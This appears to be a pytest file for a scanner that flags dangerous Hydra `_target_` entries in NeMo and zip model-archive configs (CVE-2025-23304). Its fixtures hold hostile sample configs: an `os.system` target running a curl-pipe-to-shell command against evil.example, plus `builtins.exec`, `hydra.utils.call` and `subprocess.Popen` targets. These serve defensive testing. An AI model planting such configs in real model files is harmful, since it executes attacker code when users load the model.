"""Hydra `_target_` in configs inside model archives (NeMo .nemo tars, CVE-2025-23304)."""

from __future__ import annotations

from scanhits import hits
from targen import tar_archive
from zipgen import Entry, build

BENIGN = b"""sample_rate: 16000
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: 80
optim:
  name: adamw
  sched: {_target_: nemo.core.optim.lr_scheduler.CosineAnnealing, warmup_steps: 1000}
"""
EVIL = BENIGN + b"""decoder:
  _target_: "os.system"
  command: curl https://evil.example/x | sh
preprocessor: {"_target_": 'builtins.exec.__call__', "source": "import os"}
again:
  _target_: os.system
"""


def test_dangerous_targets_in_a_nemo_archive_are_critical_at_the_name(scan_tree):
    scan = scan_tree({"asr.nemo": tar_archive({"./model_config.yaml": EVIL})}, select="models")
    assert hits(scan) == [
        ("MOD014", "asr.nemo", "./model_config.yaml", EVIL.index(b"os.system")),
        ("MOD014", "asr.nemo", "./model_config.yaml", EVIL.index(b"builtins.exec")),
    ]
    assert scan.messages("MOD014") == [
        "Hydra _target_ os.system is called when the model is restored (hydra.utils.instantiate): runs processes or shell commands",
        "Hydra _target_ builtins.exec is called when the model is restored (hydra.utils.instantiate): evaluates or compiles code",
    ]


def test_targets_that_resolve_another_target_by_name(scan_tree):
    """hydra.utils.call / get_method import whatever `path` names: a way round a target check."""
    config = b"hook:\n  _target_: hydra.utils.call\n  path: os.system\n  cmd: id\n"
    scan = scan_tree({"m.nemo": tar_archive({"model_config.yaml": config})}, select="models")
    assert hits(scan) == [("MOD014", "m.nemo", "model_config.yaml", config.index(b"hydra.utils.call"))]
    assert scan.messages("MOD014") == [
        "Hydra _target_ hydra.utils.call is called when the model is restored (hydra.utils.instantiate): imports modules or resolves names at load time"
    ]


def test_a_config_in_a_zip_archive(scan_tree):
    archive = build([Entry("bundle/config.yml", b"model:\n  _target_: subprocess.Popen\n")]).data
    scan = scan_tree({"bundle.zip": archive}, select="models")
    assert hits(scan) == [("MOD014", "bundle.zip", "bundle/config.yml", len(b"model:\n  _target_: "))]


def test_model_classes_and_repository_configs_are_quiet(scan_tree):
    """Configs of the repository itself are reviewed source, not part of a downloaded model."""
    scan = scan_tree({"asr.nemo": tar_archive({"./model_config.yaml": BENIGN}), "conf/train.yaml": EVIL}, select="models")
    assert (hits(scan), scan.errors) == ([], [])
